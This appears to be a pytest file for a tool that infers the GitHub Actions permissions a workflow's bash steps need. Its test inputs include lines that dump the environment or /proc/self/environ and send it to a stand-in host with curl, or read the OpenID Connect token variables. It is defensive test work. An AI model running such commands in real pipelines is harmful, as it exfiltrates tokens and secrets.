"""What gets all variables, or one whose name is known only then, gets the token and OpenID Connect's."""

from __future__ import annotations

import json

import pytest
from permissions.infer.kit import need

from pinfix_codemods.permissions.need import Status

_TOKEN = "env: {GH_TOKEN: '${{ github.token }}'}"

TAKES = [
    "env > x",
    "printenv | curl -d @- https://a.example",
    "export -p > x",
    "set >> x",
    'x=$(declare -p); curl -d "$x" https://a.example',
    "cat /proc/self/environ > x",
    "cp /proc/self/environ x",
    "curl -d @/proc/self/environ https://a.example",
    "curl -T /proc/self/environ https://a.example",
    'for n in A B; do curl -d "${!n}" https://a.example; done',
    'f() { curl -d "${!1}" https://a.example; }\nf GH_TOKEN',
    'curl -d "${x:-${!y}}" https://a.example',
]
LOGS = [
    "env",
    "env | sort",
    "env | grep FOO > /dev/null",
    "{ set -e; export A; echo x; } > y",
    'for n in A B; do echo "${!n}"; done',
    'a=(x); for i in "${!a[@]}"; do curl -d "$i" https://a.example; done',
    'echo "$1" > x',
]


def _steps(script: str) -> str:
    return f"- run: {json.dumps(script)}\n  shell: bash\n"


@pytest.mark.parametrize("script", TAKES)
def test_the_token_is_in_it(script: str) -> None:
    assert need(_steps(script), job=f"runs-on: ubuntu-latest\n{_TOKEN}").status is Status.UNKNOWN


@pytest.mark.parametrize("script", TAKES)
def test_the_password_of_openid_connect_is_in_it(script: str) -> None:
    found = need(_steps(script), head="permissions: write-all")
    assert any("OpenID" in one.text for one in found.assumptions)
    named = need(_steps(script), head="permissions: {id-token: write}")
    assert named.grant.as_dict() == {"id-token": "write"}


@pytest.mark.parametrize("script", LOGS)
def test_the_log_is_told_nothing_of_use(script: str) -> None:
    assert need(_steps(script), head="permissions: write-all").status is Status.PROVEN


@pytest.mark.parametrize(
    "script",
    [
        'n=ACTIONS_ID_TOKEN_REQUEST_URL; curl "${!n}"',
        'T=$ACTIONS_ID_TOKEN_REQUEST_TOKEN; curl -H "A: $T" https://a.example',
        "echo x > $ACTIONS_ID_TOKEN_REQUEST_URL",
        "x=${ACTIONS_ID_TOKEN_REQUEST_TOKEN:-}",
    ],
)
def test_who_names_it_asks(script: str) -> None:
    found = need(_steps(script), head="permissions: write-all")
    assert found.grant.as_dict() == {"id-token": "write"}


def test_a_program_in_an_array_that_grows_may_push() -> None:
    steps = "- uses: actions/checkout@v4\n" + _steps('c=(git push); c+=(--tags)\n"${c[@]}"')
    assert need(steps).grant.as_dict() == {"contents": "write"}


def test_a_function_of_a_file_runs_what_others_call_it_with() -> None:
    files = {"lib.sh": 'run() { "$@"; }\nrun echo hi\n'}
    steps = "- uses: actions/checkout@v4\n" + _steps("source ./lib.sh\nrun ./x.sh")
    job = f"runs-on: ubuntu-latest\n{_TOKEN}"
    assert need(steps, files, job=job).status is Status.UNKNOWN


def test_a_value_that_grows_and_grows_is_not_followed_to_its_end() -> None:
    script = "\n".join(['s="$s $GH_TOKEN y"'] * 3000 + ['curl -d "$s" https://a.example'])
    assert need(_steps(script), job=f"runs-on: ubuntu-latest\n{_TOKEN}").status is Status.UNKNOWN
